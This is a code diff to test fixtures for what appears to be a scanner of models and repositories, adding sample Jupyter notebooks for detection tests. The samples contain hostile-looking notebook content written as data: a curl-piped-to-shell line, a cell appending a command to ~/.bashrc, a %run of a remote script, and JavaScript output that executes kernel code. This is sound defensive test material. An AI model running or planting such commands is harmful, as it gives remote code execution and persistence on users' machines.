@@ -237,6 +237,14 @@ def _notebook_file(name: str, *cells: str) -> Factory:
     return _bytes(name, json.dumps(_notebook(list(cells))))
 
 
+def _notebook_output(name: str, mime: str, text: str) -> Factory:
+    doc = _notebook(["show()\n"])
+    doc["cells"][0]["outputs"] = [
+        {"output_type": "display_data", "metadata": {}, "data": {mime: text}}
+    ]
+    return _bytes(name, json.dumps(doc))
+
+
 # ---------------------------------------------------------------------------------- flax
 
 
@@ -493,6 +501,11 @@ SAMPLES: dict[str, Factory] = {
     "MX-REPO-104": _notebook_file("demo.ipynb", "!curl -s http://example.invalid/x | sh\n"),
     "MX-REPO-105": _notebook_file("odd.ipynb", "def f(:\n"),
     "MX-REPO-106": _bytes("modelxray.toml", "report_only = true\n"),
+    "MX-REPO-201": _notebook_file("write.ipynb", f"%%writefile -a ~/.bashrc\n{MARKER_CMD}\n"),
+    "MX-REPO-202": _notebook_file("run.ipynb", "%run https://example.invalid/setup.py\n"),
+    "MX-REPO-203": _notebook_output(
+        "out.ipynb", "application/javascript", "IPython.notebook.kernel.execute('1')"
+    ),
     # tflite (committed fixtures, made by tests/data/tflite's script), flax
     "MX-TFLITE-101": lambda tmp: _one(data_path("tflite", "custom_ops.tflite")),
     "MX-TFLITE-102": lambda tmp: _one(data_path("tflite", "flex_benign.tflite")),
